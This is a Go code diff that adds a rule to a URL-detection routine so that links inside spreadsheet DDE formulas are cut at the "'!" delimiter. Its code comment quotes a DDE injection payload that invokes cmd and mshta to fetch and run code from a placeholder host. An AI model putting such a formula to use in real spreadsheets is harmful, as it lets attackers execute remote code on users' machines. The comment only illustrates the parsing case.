@@ -64,6 +64,11 @@ func (t *text) closed(start, a, end int) int {
 	if k := bytes.Index(url, []byte("''")); k >= 0 && before != '\'' && bytes.IndexByte(url[:k], '?') < 0 {
 		url = url[:k]
 	}
+	// a command of DDE in a sheet: "=cmd|'/c mshta http://host.example/a'!A0"
+	if k := bytes.Index(url, []byte("'!")); k >= 0 && bytes.Contains(t.buf[t.lineStart(start,
+		max(0, start-longestLine)):start], []byte("|'")) {
+		url = url[:k]
+	}
 	switch {
 	case before == '!': // Textile's "!image!:link"
 		if k := bytes.Index(url, []byte("!:")); k >= 0 && t.schemeAt(a+k+len("!:")) {
